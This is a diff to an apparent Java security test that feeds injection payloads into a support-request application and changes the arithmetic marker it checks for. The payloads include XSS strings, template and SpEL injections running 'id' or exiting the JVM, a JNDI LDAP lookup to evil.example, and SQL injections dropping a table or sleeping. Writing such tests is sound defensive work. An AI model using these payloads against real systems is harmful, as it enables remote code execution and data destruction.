@@ -23,7 +23,7 @@ import org.supportprocess.request.RequestNumber;
 class WritingHostileText extends Attack {
 
     /** 7 times 191: found on a page where somebody has reckoned. */
-    private static final String RECKONED = "1337";
+    private static final String RECKONED = "139622501";
 
     @Autowired
     ObjectMapper json;
@@ -50,19 +50,19 @@ class WritingHostileText extends Attack {
                 "<!--><script>alert(1)</script>-->",
                 "&lt;script&gt;alert(1)&lt;/script&gt;",
                 "<div hx-get=\"/logout\" hx-trigger=\"load\">",
-                "{{7*191}} {{constructor.constructor('alert(1)')()}}",
-                "[[${7*191}]] [(${7*191})]",
-                "__${7*191}__::.x",
+                "{{73*1912637}} {{constructor.constructor('alert(1)')()}}",
+                "[[${73*1912637}]] [(${73*1912637})]",
+                "__${73*1912637}__::.x",
                 "~{::content} ~{layout :: page(1,2)}",
-                "*{7*191} #{login.title} @{/logout}",
-                "${7*191} ${T(java.lang.Runtime).getRuntime().exec('id')}",
-                "#{7*191} #{T(java.lang.System).exit(1)}",
+                "*{73*1912637} #{login.title} @{/logout}",
+                "${73*1912637} ${T(java.lang.Runtime).getRuntime().exec('id')}",
+                "#{73*1912637} #{T(java.lang.System).exit(1)}",
                 "${jndi:ldap://evil.example/x} ${env:PATH}",
-                "= 7*191",
-                "\", 7*191, \"",
-                "if true then 7*191 else 0",
+                "= 73*1912637",
+                "\", 73*1912637, \"",
+                "if true then 73*1912637 else 0",
                 "function(x) external {java: {class: \"java.lang.Math\", \"method signature\": \"max(int, int)\"}}",
-                "<#assign x=7*191>${x} <%= 7*191 %> #set($x=7*191)$x",
+                "<#assign x=73*1912637>${x} <%= 73*1912637 %> #set($x=73*1912637)$x",
                 "'; drop table support_request; --",
                 "' or '1'='1",
                 "\\'; select pg_sleep(9); --",
